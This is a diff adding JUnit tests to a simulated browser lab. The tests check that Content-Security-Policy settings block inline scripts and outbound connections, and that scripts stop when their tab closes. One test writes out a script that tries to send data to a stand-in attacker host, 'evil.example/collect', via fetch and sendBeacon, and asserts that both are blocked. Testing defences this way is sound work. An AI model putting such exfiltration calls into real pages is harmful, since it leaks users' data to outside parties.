@@ -268,4 +268,33 @@ class PageScriptsTest {
         assertThat(printed()).isEqualTo(first);
         assertThat(first.getFirst()).startsWith("0.");
     }
+
+    @Test
+    void aPolicyKeepsAScriptInThePageFromRunning() {
+        restart("mode", "session", "csp", "on");
+        runs("console.log('ran');");
+        assertThat(printed()).isEmpty();
+        assertThat(notes("csp.script")).hasSize(1);
+    }
+
+    @Test
+    void aPolicyForConnectionsLetsAScriptRunButNotSendAbroad() {
+        restart("mode", "session", "csp", "connectOnly");
+        runs("fetch('/products').then(a => console.log(a.status));"
+                + "fetch('https://evil.example/collect', {method: 'POST', mode: 'no-cors', body: 'x'})"
+                + ".catch(e => console.log(e.message));"
+                + "navigator.sendBeacon('https://evil.example/collect', 'x');");
+        assertThat(printed()).containsExactlyInAnyOrder("200", "Failed to fetch");
+        assertThat(notes("csp.connect")).hasSize(2);
+        assertThat(lab.world().loot().values()).isEmpty();
+    }
+
+    @Test
+    void aScriptEndsWithItsTab() {
+        runs("setTimeout(() => console.log('late'), 1000); console.log('early');");
+        assertThat(printed()).containsExactly("early");
+        alice(new Action.CloseTab());
+        alice(new Action.AdvanceClock(Duration.ofSeconds(5)));
+        assertThat(printed()).containsExactly("early");
+    }
 }
